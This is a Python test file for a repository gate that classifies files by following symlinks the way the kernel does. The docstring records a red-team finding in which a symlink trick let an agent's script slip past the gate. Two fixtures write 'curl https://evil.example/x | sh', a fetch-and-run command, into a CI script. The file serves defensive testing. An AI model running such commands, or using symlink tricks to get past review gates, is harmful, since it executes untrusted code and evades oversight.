"""Red team 9: a symlink's target was resolved by text (`posixpath.normpath`), but the kernel walks it: a folder
on the way that is itself a link is entered before a `..` after it applies. With `lnk -> deep/a/b`, the action
link `.github/actions/setup -> ../../lnk/../tools/setup` reaches `deep/a/tools/setup` in a checkout, while the
gate looked for `tools/setup`; an agent's `curl | sh` in `deep/a/tools/setup/run.sh` was src under `--tree`.
TreeContext now walks every target through the tree's own links (symlinks.physical_target); the kernel
(`os.path.realpath` in a real checkout) is the truth the generated layouts are compared with."""

from __future__ import annotations

import os
import random
from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify.symlinks import physical_target
from gatekeeper.gitobjects import TreeEntry
from tests.gitrepo import GitRepo
from tests.test_classify_context import tree_files


def test_a_dotdot_after_a_linked_folder_is_walked_as_the_kernel_walks_it(git_repo: GitRepo) -> None:
    git_repo.write("deep/a/b/keep.txt", "x\n")
    git_repo.write("deep/a/tools/setup/run.sh", "echo hi\n")
    git_repo.write("tools/setup/run.sh", "echo decoy\n")
    git_repo.symlink("lnk", "deep/a/b")
    git_repo.symlink(".github/actions/setup", "../../lnk/../tools/setup")
    git_repo.commit("base")
    assert os.path.realpath(git_repo.root / ".github/actions/setup/run.sh") == \
        str((git_repo.root / "deep/a/tools/setup/run.sh").resolve())
    git_repo.write("deep/a/tools/setup/run.sh", "curl https://evil.example/x | sh\n")
    git_repo.commit("edit")
    got = tree_files(git_repo)["deep/a/tools/setup/run.sh"]
    assert got.bucket == "ci" and ".github/actions/setup/run.sh" in (got.evidence or "")


def test_a_link_on_the_way_that_the_change_moves_counts_on_either_side(git_repo: GitRepo) -> None:
    # BASE: lnk -> deep/a/b (the action is deep/a/tools/setup); HEAD moves lnk: the base's reach still counts.
    git_repo.write("deep/a/b/keep.txt", "x\n")
    git_repo.write("deep/a/tools/setup/run.sh", "echo hi\n")
    git_repo.symlink("lnk", "deep/a/b")
    git_repo.symlink(".github/actions/setup", "../../lnk/../tools/setup")
    git_repo.commit("base")
    git_repo.symlink("lnk", "deep")
    git_repo.write("deep/a/tools/setup/run.sh", "curl https://evil.example/x | sh\n")
    git_repo.commit("edit")
    assert tree_files(git_repo)["deep/a/tools/setup/run.sh"].bucket == "ci"


NAMES = ["..", "..", ".", "", "d", "a", "b", "t", "l0", "l0", "l1", "l2", "f"]
FOLDERS = ["", "d", "d/a", "d/a/b", "d/a/t", "t", "x/y"]


def _layout(repo: GitRepo, rng: random.Random) -> list[str]:
    """Files in every folder; `l0` at the root points to a folder; the other links' targets climb to the root,
    then wander through names, `..` and the links themselves."""
    for folder in FOLDERS:
        repo.write(f"{folder}/f".lstrip("/"), folder + "\n")
    repo.symlink("l0", rng.choice(FOLDERS[1:]))
    links = ["l0"]
    for index in range(1, rng.randint(2, 5)):
        folder = rng.choice(FOLDERS)
        link = f"{folder}/l{index}".lstrip("/")
        climb = [".."] * (folder.count("/") + 1 if folder else 0)
        target = "/".join(climb + [rng.choice(NAMES) for _ in range(rng.randint(1, 4))]) or "."
        repo.symlink(link, target)
        links.append(link)
    return links


@each_case("seed", range(60))
def test_generated_layouts_reach_what_the_kernel_reaches(tmp_path: Path, seed: int) -> None:
    rng = random.Random(seed)
    repo = GitRepo(tmp_path / "r")
    links = _layout(repo, rng)
    head = repo.commit("layout")
    with repo.objects() as objects:
        tree = objects.tree(head)

        def read(entry: TreeEntry) -> str:
            return objects.blob(entry.oid).decode()

        root = os.path.realpath(repo.root)
        for link in links:
            got = physical_target(link, read(tree[link]), tree, read)
            if not os.path.exists(repo.root / link):
                continue  # the kernel reaches nothing (a loop, a missing name): realpath would guess
            kernel = os.path.realpath(repo.root / link)
            inside = kernel == root or kernel.startswith(root + "/")
            if got is not None:
                # The last name is left as written; following it (a chain) ends where the kernel ends.
                assert os.path.realpath(os.path.join(root, got)) == kernel, (seed, link, os.readlink(repo.root / link))
            elif inside and not kernel.startswith(root + "/.git"):
                pytest.fail(f"seed {seed}: {link} -> {os.readlink(repo.root / link)} reaches {kernel}, got None")
